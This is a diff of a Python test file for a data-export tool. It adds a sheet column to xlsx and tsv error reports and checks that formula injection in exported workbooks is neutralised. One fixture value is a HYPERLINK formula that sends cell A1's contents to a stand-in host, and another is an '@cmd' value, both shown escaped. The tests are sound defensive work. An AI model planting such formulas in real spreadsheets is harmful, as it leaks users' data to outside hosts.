@@ -248,9 +248,9 @@ def test_xlsx_reads_back(at_root, lang):
     )
     # the errors sheet: header only (the sample is clean)
     assert sheet_rows(wb[names[2]]) == [
-        ["类别", "文件", "行", "列", "值", "问题", "问题代码"]
+        ["类别", "文件", "工作表", "行", "列", "值", "问题", "问题代码"]
         if lang == "zh"
-        else ["Severity", "File", "Row", "Column", "Value", "Problem", "Code"]
+        else ["Severity", "File", "Sheet", "Row", "Column", "Value", "Problem", "Code"]
     ]
 
 
@@ -260,13 +260,14 @@ def test_xlsx_errors_sheet_lists_errors_and_warnings_neutralised(tmp_path):
     assert result.exit_code == 3
     wb = openpyxl.load_workbook(out)
     rows = sheet_rows(wb["Errors and warnings"])
-    assert rows[0] == ["Severity", "File", "Row", "Column", "Value", "Problem", "Code"]
+    assert rows[0] == ["Severity", "File", "Sheet", "Row", "Column", "Value", "Problem", "Code"]
     assert [r[0] for r in rows[1:]] == ["error"] * 3 + ["warning"] * 5  # 市中区 sent none of Q1-Q4
-    assert [r[2] for r in rows[1:4]] == [3, 4, 5]
-    assert rows[1][4] == "-5"  # a number written as text is left alone
-    assert rows[2][4] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"  # a formula is not
-    assert rows[3][4] == "12\ufffd34"  # a control character Excel refuses is replaced
-    assert rows[4][3] == "'@cmd"
+    assert [r[2] for r in rows[1:]] == [None] * 8  # a CSV input: no sheet
+    assert [r[3] for r in rows[1:4]] == [3, 4, 5]
+    assert rows[1][5] == "-5"  # a number written as text is left alone
+    assert rows[2][5] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"  # a formula is not
+    assert rows[3][5] == "12\ufffd34"  # a control character Excel refuses is replaced
+    assert rows[4][4] == "'@cmd"
     # nothing in the workbook is a formula
     for ws in wb:
         for row in ws.iter_rows():
@@ -550,7 +551,7 @@ def test_tsv_keeps_the_mark_and_sends_the_note_to_stderr(at_root):
     [
         (["kpis", "sample_data"], "范围\t创业带动就业倍增\t创业活动对就业的贡献率\t创业环境满意度\t全员创业活动指数\t创业活动对企业成长的贡献率"),
         (["targets"], "编号\t名称\t口径\t目标值\t范围\t期限"),
-        (["validate", "sample_data"], "文件\t编码\t数据行数"),
+        (["validate", "sample_data"], "文件\t工作表\t编码\t数据行数"),  # the .xlsx files list their sheet
         (["roster", "tests/fixtures/roster/good.csv"], None),
     ],
 )
